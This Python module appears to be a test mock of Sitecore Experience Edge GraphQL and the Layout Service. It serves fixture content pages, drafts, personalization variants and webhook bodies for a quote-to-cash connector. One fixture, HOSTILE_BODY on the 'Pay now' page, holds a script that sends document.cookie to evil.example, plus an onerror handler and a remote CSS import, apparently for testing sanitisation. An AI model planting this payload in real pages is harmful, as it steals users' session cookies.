"""A local stand-in for Sitecore: Experience Edge GraphQL and the Layout Service on 127.0.0.1.

It speaks the two wire formats the Sitecore connector reads:

- `POST /api/graphql/v1` with the `sc_apikey` header (401 without the right key): the
  `item(path:, language:)` query (a path or an item id in any GUID form; `null` for an item
  that is not published) and the `search(where:, first:, after:)` query, answering
  `{total, pageInfo {endCursor, hasNext}, results}` with base64 offsets as cursors, as the
  recorded Edge answers do (`NQ==` after five results). Field aliases
  (`alias: field(name: "X") { value }`) are read from the query text and answered with the
  item's field, or `null` where the item has no such field, as Edge does.
- `GET /sitecore/api/layout/render/jss?item=&sc_lang=&sc_apikey=` (401 for a wrong key):
  the published route in normal mode, and with `sc_mode=edit` (and `sc_version`) the
  versions kept in `master` in editing mode; 404 with `route: null` for an unknown item.

The pages are built from the recorded JSS responses in `../shared/data/sitecore-jss-fixtures`
(see SOURCE.md there): the normal-mode and editing-mode Layout Service routes keep their
placeholders, components and field values, and gain the fields a q2c page has; the
personalized page carries the variant ids of the recorded personalized route. Tests
script 429 with Retry-After and 5xx answers with `fail(...)` and remove items with
`remove(...)`.
"""

from __future__ import annotations

import base64
import copy
import json
import re
from dataclasses import dataclass, field
from typing import Any

from provider_servers import SHARED_DATA, ProviderServer, Seen

FIXTURES = SHARED_DATA / "sitecore-jss-fixtures"
GRAPHQL_PATH = "/api/graphql/v1"
LAYOUT_PATH = "/sitecore/api/layout/render/jss"
ROOT_PATH = "/sitecore/content/Northwind/Q2C"
SAMPLE_APPROVED = "{FCA998C5-0CC3-4F91-94D8-0A4E6CAECE88}"
SAMPLE_AWAITING = "{46DA5376-10DC-4B66-B464-AFDAA29DE84F}"

ROOT_ID = "5A1E0B7C3D2F4E6A8B9C0D1E2F3A4B5C"
SAMPLE_ID = "6B2F1C8D4E3A4F7B9CAD1E2F3A4B5C6D"
E_INVOICING_ID = "53C31A2A75D543C6A0B890C7859C30AB"
LATE_PAYMENT_ID = "7C77981F5CE04246A98BF4A95279CBFB"
ACCOUNT_TEAM_ID = "AFE99EF438B44632AD63AF9F61CD00E4"
HOSTILE_ID = "E79538D7C90A441F98531AB443D70CDB"
AWAITING_ID = "0C6F4AAFDD7E5FAFB9B061070D496055"
# The editing-mode fixture's own item id: a page that exists only as a draft in master.
WELCOME_ID = "D6AC9D26947451CF982D4F8D44951229"

HOSTILE_BODY = (
    '<p>Pay now</p><script>fetch("https://evil.example/?c="+document.cookie)</script>'
    '<img src="https://evil.example/t.png" onerror="alert(1)">'
    "<style>@import url(https://evil.example/x.css);</style>"
)
LATE_PAYMENT_EN = "<p>Late payments bear interest at the statutory rate (NL, art. 6:119a BW).</p>"
LATE_PAYMENT_EN_DRAFT = "<p>Late payments bear interest at 8 points above the ECB rate.</p>"
LATE_PAYMENT_DE = "<p>Bei Zahlungsverzug fallen gesetzliche Verzugszinsen an.</p>"
ACCOUNT_TEAM_DEFAULT = "<p>Questions? Write to billing@northwind.example.</p>"
ACCOUNT_TEAM_GREEN = "<p>Your enterprise account team answers within one business day.</p>"


def fixture(name: str) -> Any:
    return json.loads((FIXTURES / name).read_text(encoding="utf-8"))


@dataclass
class Page:
    """One language version of one item as Sitecore holds it."""

    guid: str
    path: str
    language: str
    template: str
    version: int
    fields: dict[str, str] = field(default_factory=dict)
    variant_ids: list[str] = field(default_factory=list)
    layout: dict | None = None

    @property
    def name(self) -> str:
        return self.path.rsplit("/", 1)[-1]

    @property
    def updated(self) -> str:
        return self.fields.get("__Updated", "")


def _braced(guid: str) -> str:
    return "{" + f"{guid[:8]}-{guid[8:12]}-{guid[12:16]}-{guid[16:20]}-{guid[20:]}" + "}"


def _normal_layout(page: Page, base: dict) -> dict:
    """A recorded route answered in normal mode for `page`, with the page's own fields."""
    layout = copy.deepcopy(base)
    layout["sitecore"]["context"].update(pageEditing=False, language=page.language,
                                         itemPath=page.path)
    route = layout["sitecore"]["route"]
    route.update(itemId=_braced(page.guid).strip("{}").lower(), itemLanguage=page.language,
                 itemVersion=page.version, templateName=page.template, databaseName="web",
                 name=page.name)
    route.setdefault("fields", {}).update(
        {name: {"value": value} for name, value in page.fields.items()
         if not name.startswith("__")})
    return layout


def _editing_layout(page: Page, body: str) -> dict:
    """The recorded editing-mode route (master, pageEditing) for a version of `page`."""
    layout = copy.deepcopy(fixture("layout-service-route-editing-mode.json"))
    layout["sitecore"]["context"].update(language=page.language, itemPath=page.path)
    route = layout["sitecore"]["route"]
    route.update(itemId=_braced(page.guid).strip("{}").lower(), itemLanguage=page.language,
                 itemVersion=page.version, templateName=page.template, name=page.name)
    route["fields"].update({name: {"value": value} for name, value in page.fields.items()
                            if not name.startswith("__")})
    route["placeholders"]["jss-main"][0]["fields"]["content"]["value"] = body
    return layout


def _content_block_layout(page: Page, body: str) -> dict:
    """The recorded ContentBlock route, served from the web database in normal mode."""
    base = fixture("layout-service-route-editing-mode.json")
    base["sitecore"]["route"]["placeholders"]["jss-main"][0]["fields"]["content"]["value"] = body
    return _normal_layout(page, base)


def _personalized_layout(page: Page) -> dict:
    """A ContentBlock whose personalization experiences change the body for `green` and
    hide it for `purple`; `red` leaves the default in place."""
    layout = _content_block_layout(page, ACCOUNT_TEAM_DEFAULT)
    block = layout["sitecore"]["route"]["placeholders"]["jss-main"][0]
    green = copy.deepcopy(block)
    green.update(uid="9f0c2a4e-5b7d-4c1e-8a3f-6d2b1e0c9a11",
                 dataSource="{3A4B5C6D-7E8F-4A1B-9C2D-3E4F5A6B7C8D}")
    green["fields"]["content"]["value"] = ACCOUNT_TEAM_GREEN
    block["experiences"] = {"green": green,
                            "purple": {"componentName": None, "dataSource": None}}
    return layout


def q2c_pages() -> list[Page]:
    """The content tree under ROOT_PATH, every value set by hand."""
    normal = fixture("layout-service-route-normal-mode.json")
    personalized = fixture("edge-site-routes-personalize.json")
    variant_ids = next(r["route"]["personalization"]["variantIds"]
                       for r in personalized["data"]["site"]["siteInfo"]["routes"]["results"]
                       if r["path"] == "/y1/y2/y3/y4")
    pages = [
        Page(ROOT_ID, ROOT_PATH, "en", "Folder", 1, {"__Updated": "20261101T080000Z"}),
        Page(SAMPLE_ID, f"{ROOT_PATH}/Readme", "en", "Sample Item", 1,
             {"__Updated": "20261101T081000Z", "Title": "Read me"}),
        Page(E_INVOICING_ID, f"{ROOT_PATH}/E-invoicing", "en", "Q2C Message Block", 2, {
            "ContentId": "e_invoicing_sc", "Placement": "bottom", "Segments": "smb|Mid_Market",
            "__Updated": "20261203T090000Z", "__Updated by": "sitecore\\marketing.editor",
            "__Workflow state": "",
        }),
        Page(LATE_PAYMENT_ID, f"{ROOT_PATH}/Late payment NL", "en", "Q2C Legal Text", 3, {
            "ContentId": "late_payment_sc", "LegalCase": "late_payment", "Countries": "nl",
            "Title": "Late payment (NL)", "__Updated": "20261204T101500Z",
            "__Updated by": "sitecore\\legal.reviewer", "__Workflow state": SAMPLE_APPROVED,
        }),
        Page(LATE_PAYMENT_ID, f"{ROOT_PATH}/Late payment NL", "de-DE", "Q2C Legal Text", 1, {
            "ContentId": "late_payment_sc", "LegalCase": "late_payment", "Countries": "nl",
            "Title": "Zahlungsverzug (NL)", "__Updated": "20261204T111500Z",
            "__Updated by": "sitecore\\legal.reviewer", "__Workflow state": SAMPLE_APPROVED,
        }),
        Page(ACCOUNT_TEAM_ID, f"{ROOT_PATH}/Account team", "en", "Q2C Message Block", 5, {
            "ContentId": "account_team_sc", "Placement": "bottom", "Channels": "pdf|email",
            "__Updated": "20261202T140000Z", "__Updated by": "sitecore\\cx.lead",
        }, list(variant_ids)),
        Page(HOSTILE_ID, f"{ROOT_PATH}/Pay now", "en", "Q2C Message Block", 1, {
            "ContentId": "hostile_sc", "Placement": "top",
            "__Updated": "20261205T070000Z", "__Updated by": "sitecore\\intern",
        }),
        Page(AWAITING_ID, f"{ROOT_PATH}/Price change", "fr-FR", "Q2C Message Block", 1, {
            "ContentId": "price_change_sc", "Placement": "top",
            "__Updated": "20261205T080000Z", "__Updated by": "sitecore\\pricing",
            "__Workflow state": SAMPLE_AWAITING,
        }),
    ]
    layouts = {
        E_INVOICING_ID: lambda p: _normal_layout(p, normal),
        LATE_PAYMENT_ID: lambda p: _content_block_layout(
            p, LATE_PAYMENT_EN if p.language == "en" else LATE_PAYMENT_DE),
        ACCOUNT_TEAM_ID: _personalized_layout,
        HOSTILE_ID: lambda p: _content_block_layout(p, HOSTILE_BODY),
        AWAITING_ID: lambda p: _content_block_layout(p, "<p>Prices change on 1 March.</p>"),
    }
    for page in pages:
        if page.guid in layouts:
            page.layout = layouts[page.guid](page)
    return pages


def q2c_drafts() -> list[tuple[Page, str]]:
    """Versions kept in master only: a new draft of the Dutch late-payment text, and a page
    never published (the recorded editing-mode route itself)."""
    late = Page(LATE_PAYMENT_ID, f"{ROOT_PATH}/Late payment NL", "en", "Q2C Legal Text", 4, {
        "ContentId": "late_payment_sc", "LegalCase": "late_payment", "Countries": "nl",
        "Title": "Late payment (NL)"})
    welcome = Page(WELCOME_ID, "/test/path", "en", "Q2C Message Block", 1, {
        "ContentId": "welcome_note", "Placement": "top"})
    recorded = fixture("layout-service-route-editing-mode.json")
    body = recorded["sitecore"]["route"]["placeholders"]["jss-main"][0]["fields"]["content"]
    return [(late, LATE_PAYMENT_EN_DRAFT), (welcome, body["value"])]


class SitecoreServer(ProviderServer):
    """Experience Edge and the Layout Service of one Sitecore environment."""

    token = "sc-apikey-0f4e9b2a-77c1"

    def __init__(self, page_size: int = 2) -> None:
        super().__init__(page_size)
        self.published: dict[tuple[str, str], Page] = {
            (p.guid, p.language.lower()): p for p in q2c_pages()}
        self.master: dict[tuple[str, str], dict[int, dict]] = {}
        for page in self.published.values():
            if page.layout is not None:
                editing = copy.deepcopy(page.layout)
                editing["sitecore"]["context"]["pageEditing"] = True
                editing["sitecore"]["route"]["databaseName"] = "master"
                self.master.setdefault((page.guid, page.language.lower()), {})[
                    page.version] = editing
        for page, body in q2c_drafts():
            self.master.setdefault((page.guid, page.language.lower()), {})[
                page.version] = _editing_layout(page, body)

    def remove(self, guid: str, language: str) -> None:
        """Delete a language version of an item and publish the deletion."""
        key = (guid, language.lower())
        self.published.pop(key)
        self.master.pop(key, None)

    def error_body(self, status: int) -> Any:
        return {"errors": [{"message": {401: "Invalid API key", 429: "Too many requests"}
                            .get(status, "Internal server error")}]}

    def _answer(self, seen: Seen) -> tuple[int, Any, dict[str, str]]:
        scripted = self._scripted(seen)
        if scripted is not None:
            return scripted
        if seen.method == "POST" and seen.path == GRAPHQL_PATH:
            headers = {k.lower(): v for k, v in seen.headers.items()}
            if headers.get("sc_apikey") != self.token:
                return 401, self.error_body(401), {}
            return 200, self.graphql(seen.body or {}), {}
        if seen.method == "GET" and seen.path == LAYOUT_PATH:
            if seen.query.get("sc_apikey") != self.token:
                return 401, {"Message": "Authorization has been denied for this request."}, {}
            return self.layout_service(seen.query)
        return 404, {"errors": [{"message": f"no route {seen.path}"}]}, {}

    # Experience Edge

    def graphql(self, request: dict) -> dict:
        query = request.get("query") or ""
        variables = request.get("variables") or {}
        if re.search(r"\bsearch\s*\(", query):
            return {"data": {"search": self._search(query, variables)}}
        if re.search(r"\bitem\s*\(", query):
            page = self._find(str(variables.get("path") or ""),
                              str(variables.get("language") or "en"))
            return {"data": {"item": None if page is None else self._project(page, query)}}
        return {"errors": [{"message": "unsupported query"}], "data": None}

    def _find(self, path: str, language: str) -> Page | None:
        wanted = re.sub(r"[{}\-]", "", path).upper()
        for page in self.published.values():
            if page.language.lower() != language.lower():
                continue
            if page.guid == wanted or page.path.lower() == path.lower():
                return page
        return None

    def _search(self, query: str, variables: dict) -> dict:
        predicates = re.findall(
            r'\{\s*name:\s*"([^"]+)",\s*value:\s*"([^"]*)",\s*operator:\s*(\w+)\s*\}', query)
        roots = [v for n, v, _ in predicates if n == "_path"]
        languages = {v.lower() for n, v, _ in predicates if n == "_language"}
        templates = {re.sub(r"[{}\-]", "", v).upper() for n, v, _ in predicates
                     if n == "_templates"}
        under = [self._find(root, "en") for root in roots]
        matches = [
            page for page in self.published.values()
            if all(u is not None and page.path.lower().startswith(u.path.lower())
                   for u in under)
            and (not languages or page.language.lower() in languages)
            and (not templates or _template_id(page.template) in templates)
        ]
        matches.sort(key=lambda p: (p.updated, p.guid, p.language))
        first = int(variables.get("first") or 10)
        after = variables.get("after")
        start = int(base64.b64decode(after).decode()) if after else 0
        end = min(start + first, len(matches))
        return {
            "total": len(matches),
            "pageInfo": {"endCursor": base64.b64encode(str(end).encode()).decode(),
                         "hasNext": end < len(matches)},
            "results": [self._project(page, query) for page in matches[start:end]],
        }

    def _project(self, page: Page, query: str) -> dict:
        """The selection set the connector's queries ask for, answered for `page`."""
        out: dict[str, Any] = {"id": page.guid}
        plain = {"name": page.name, "displayName": page.name, "path": page.path,
                 "version": page.version, "language": {"name": page.language},
                 "template": {"id": _template_id(page.template), "name": page.template},
                 "personalization": {"variantIds": list(page.variant_ids)}}
        for key, value in plain.items():
            if re.search(rf"(?<![\w:$]){key}\b(?!\s*:)", query):
                out[key] = value
        for alias, name in re.findall(r'(\w+):\s*field\(name:\s*"([^"]+)"\)', query):
            out[alias] = {"value": page.fields[name]} if name in page.fields else None
        return out

    # Layout Service

    def layout_service(self, query: dict[str, str]) -> tuple[int, Any, dict[str, str]]:
        guid = re.sub(r"[{}\-]", "", query.get("item", "")).upper()
        language = query.get("sc_lang", "en").lower()
        not_found = {"sitecore": {"context": {"pageEditing": False, "language": language},
                                  "route": None}}
        if query.get("sc_mode") == "edit":
            versions = self.master.get((guid, language)) or {}
            if not versions:
                return 404, not_found, {}
            wanted = int(query["sc_version"]) if query.get("sc_version") else max(versions)
            if wanted not in versions:
                return 404, not_found, {}
            return 200, versions[wanted], {}
        page = self.published.get((guid, language))
        if page is None or page.layout is None:
            return 404, not_found, {}
        return 200, page.layout, {}


def _template_id(name: str) -> str:
    return base64.b16encode(name.encode()[:16].ljust(16, b"_")).decode()


def webhook_body(updates: list[tuple[str, str, str, str]], invocation: str = "inv-1",
                 continues: bool = False) -> bytes:
    """An Experience Edge OnUpdate webhook body: (identifier, entity, operation, culture)."""
    return json.dumps({
        "invocation_id": invocation,
        "updates": [{"identifier": identifier, "entity_definition": entity,
                     "operation": operation, "entity_culture": culture}
                    for identifier, entity, operation, culture in updates],
        "continues": continues,
    }).encode()
